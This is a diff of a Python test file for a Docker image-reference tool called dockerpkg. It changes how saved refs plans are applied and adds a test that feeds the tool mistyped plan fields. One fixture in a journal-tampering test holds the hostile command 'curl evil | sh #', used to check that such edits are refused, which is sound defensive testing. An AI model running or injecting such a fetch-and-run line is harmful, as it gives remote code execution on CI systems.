@@ -14,7 +14,10 @@ import attrs
 import pytest
 
 from dockerpkg.api import usages
+from dockerpkg.api.workspace import load_workspace
 from dockerpkg.cli import main
+from dockerpkg.core import usages_render
+from dockerpkg.core.editmatch import EditRules
 from dockerpkg.core.usages import (
     Published,
     SkippedFile,
@@ -247,12 +250,12 @@ class TestApply:
         script = work / "uses" / "scripts" / "run.sh"
         script.write_text(script.read_text(encoding="utf-8") + "# edited\n", encoding="utf-8")
         before = snapshot(work / "uses")
-        status, _, err = run(["apply", "refs.json"], capsys)
+        status, _, err = run(["-c", "config.yaml", "apply", "refs.json", "uses"], capsys)
         assert status == 1
         assert "uses/scripts/run.sh: error: changed since the plan was made" in err
         assert snapshot(work / "uses") == before
         script.write_text(script.read_text(encoding="utf-8").replace("# edited\n", ""))
-        assert run(["apply", "refs.json"], capsys)[0] == 0
+        assert run(["-c", "config.yaml", "apply", "refs.json", "uses"], capsys)[0] == 0
         assert "team/app:1.1 ./test" in script.read_text(encoding="utf-8")
 
     def test_files_outside_the_folders_named_are_not_edited(
@@ -264,12 +267,14 @@ class TestApply:
         job.write_text(f"image: {REGISTRY}/team/app:1.0\n", encoding="utf-8")
         args = ["-c", "config.yaml", "plan", "refs", "--out", "refs.json", "tree", str(outside)]
         assert run(args, capsys)[0] == 0
-        # Given as a PATH it may be edited; a saved plan reaches the tree and this folder only.
-        status, _, err = run(["apply", "refs.json"], capsys)
+        # Given as a PATH it may be edited; a saved plan reaches the tree, the config's refs:
+        # paths and the PATHs given to apply only (never the current folder by default).
+        status, _, err = run(["-c", "config.yaml", "apply", "refs.json"], capsys)
         assert status == 1
-        assert "outside the tree and the current folder" in err
+        assert "outside the tree and the folders given on the command line" in err
         assert job.read_text(encoding="utf-8") == f"image: {REGISTRY}/team/app:1.0\n"
-        assert run(["-c", "config.yaml", "refs", "--apply", "tree", str(outside)], capsys)[0] == 0
+        args = ["-c", "config.yaml", "apply", "refs", "refs.json", str(outside)]
+        assert run(args, capsys)[0] == 0
         assert job.read_text(encoding="utf-8") == f"image: {REGISTRY}/team/app:1.1\n"
 
     def test_a_failing_write_changes_nothing(self, work: Path) -> None:
@@ -285,8 +290,9 @@ class TestApply:
                 raise OSError(28, "No space left on device")
             write_new_file(path, data, mode)
 
+        rules = usages.edit_rules(load_workspace("tree", "config.yaml", {}, render=False))
         with pytest.raises(DockerPkgError) as caught:
-            write_edits("tree", edits, [str(work)], third_fails)
+            write_edits("tree", edits, [str(work)], third_fails, rules=rules)
         assert "No space left on device; nothing was changed" in caught.value.problems[0].message
         assert len(calls) == 3
         assert snapshot(work / "uses") == before
@@ -436,10 +442,10 @@ class TestStates:
         (tmp_path / REFS_JOURNAL).write_text("{}", encoding="utf-8")
         edit = FileEdit("f.txt", str(target), file_digest(b"team/app:1.0\n"), ((9, 12, "1.1"),))
         with pytest.raises(DockerPkgError, match="interrupted refs --apply"):
-            write_edits(str(tmp_path), [edit], [])
+            write_edits(str(tmp_path), [edit], [], rules=EditRules(FACTS))
         assert target.read_bytes() == b"team/app:1.0\n"
         with pytest.raises(DockerPkgError, match="cannot read the journal"):
-            finish_interrupted(str(tmp_path), [])
+            finish_interrupted(str(tmp_path), [], EditRules(FACTS))
 
     def test_a_journal_naming_a_file_elsewhere_is_refused(self, tmp_path: Path) -> None:
         """A tree may come from anyone: its journal must not be a way to write elsewhere."""
@@ -457,8 +463,8 @@ class TestStates:
             ],
         }  # fmt: skip
         (tree / REFS_JOURNAL).write_text(json.dumps(journal), encoding="utf-8")
-        with pytest.raises(DockerPkgError, match="not a journal of this tree"):
-            finish_interrupted(str(tree), [str(tree / "ci")])
+        with pytest.raises(DockerPkgError, match="outside the tree and the folders given"):
+            finish_interrupted(str(tree), [str(tree / "ci")], EditRules(FACTS))
         assert victim.read_bytes() == b"key\n"
         # Inside the folder, a journal may still only move tags and digests.
         inside = tree / "ci.yml"
@@ -468,6 +474,65 @@ class TestStates:
              "after": "x", "edits": [[0, 5, "curl evil | sh #"]]}
         ]  # fmt: skip
         (tree / REFS_JOURNAL).write_text(json.dumps(journal), encoding="utf-8")
-        with pytest.raises(DockerPkgError, match="not a plan dockerpkg made"):
-            finish_interrupted(str(tree), [])
+        with pytest.raises(DockerPkgError, match="not in a reference to an image of the tree"):
+            finish_interrupted(str(tree), [], EditRules(FACTS))
         assert inside.read_bytes() == b"image: team/app:1.0\n"
+
+
+def test_mistyped_refs_plans_are_errors_not_crashes(
+    work: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """Each field of a real saved refs plan set to each wrong value: applying it gives a
+    DockerPkgError, or makes only the edits the plan as made makes; never another error."""
+    args = ["-c", "config.yaml", "plan", "refs", "--out", "refs.json", "tree", "uses"]
+    assert run(args, capsys)[0] == 0
+    data = json.loads(Path("refs.json").read_text(encoding="utf-8"))
+    before = snapshot(work / "uses")
+    usages.write_saved_refs(
+        usages_render.plan_from_json(json.dumps(data), "r"), "config.yaml", {}, ["uses"]
+    )
+    after = snapshot(work / "uses")
+    wrong_values: tuple[object, ...] = (-1, 10**9, "", "x", "x\x00", None, [], {})
+
+    def places(value: object, path: tuple[object, ...] = ()) -> list[tuple[object, ...]]:
+        found = [path] if path else []
+        if isinstance(value, dict):
+            for key, item in value.items():
+                found += places(item, (*path, key))
+        elif isinstance(value, list):
+            for index, item in enumerate(value[:2]):
+                found += places(item, (*path, index))
+        return found
+
+    refused = 0
+    for place in places(data):
+        for wrong in wrong_values:
+            mutated = json.loads(json.dumps(data))
+            target = mutated
+            for part in place[:-1]:
+                target = target[part]
+            target[place[-1]] = wrong
+            for name, content in before.items():  # each try starts from the files as planned
+                (work / "uses" / name).write_bytes(content)
+            try:
+                plan = usages_render.plan_from_json(json.dumps(mutated), "r")
+                usages.write_saved_refs(plan, "config.yaml", {}, ["uses"])
+            except DockerPkgError:
+                refused += 1
+                assert snapshot(work / "uses") == before, (place, wrong)
+            else:
+                assert _within(snapshot(work / "uses"), before, after), (place, wrong)
+    assert refused > 100
+
+
+def _within(now: dict[str, bytes], before: dict[str, bytes], after: dict[str, bytes]) -> bool:
+    """Whether each line of each file of NOW is its line BEFORE or AFTER the plan as made
+    (a plan doing less than that plan is fine; one doing anything else is not)."""
+    for name, content in now.items():
+        lines = content.splitlines()
+        old, new = before[name].splitlines(), after[name].splitlines()
+        if not len(lines) == len(old) == len(new):
+            return False
+        if any(line not in (a, b) for line, a, b in zip(lines, old, new, strict=True)):
+            return False
+    return now.keys() == before.keys()
